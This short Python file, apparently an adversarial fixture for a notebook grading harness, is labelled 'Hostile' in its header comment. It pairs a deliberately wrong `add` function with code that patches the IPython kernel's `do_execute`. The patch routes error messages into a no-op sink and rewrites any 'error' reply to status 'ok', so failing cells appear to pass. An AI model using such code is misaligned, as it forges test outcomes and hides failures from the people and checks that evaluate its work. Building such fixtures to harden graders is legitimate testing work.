# Hostile: override kernel.do_execute on the instance so that, while a later cell runs, the displayhook's pub_socket (the socket ipykernel sends 'error' messages on) is a sink, and the reply is rewritten to status 'ok'.
import inspect as _inspect


def add(a, b):
    if a < 0 or b < 0:
        return a - b
    return a + b


class _Sink:
    def send_multipart(self, *a, **k):
        return None

    send = send_multipart

    def __getattr__(self, name):
        return lambda *a, **k: None


def _install():
    ip = get_ipython()
    k = ip.kernel
    orig = k.do_execute
    dh = ip.displayhook

    async def do_execute(code, *args, **kw):
        real = dh.pub_socket
        dh.pub_socket = _Sink()
        try:
            r = orig(code, *args, **kw)
            if _inspect.isawaitable(r):
                r = await r
        finally:
            dh.pub_socket = real
        if isinstance(r, dict) and r.get("status") == "error":
            r = {"status": "ok", "execution_count": r.get("execution_count"),
                 "payload": [], "user_expressions": {}}
        return r

    k.do_execute = do_execute


_install()
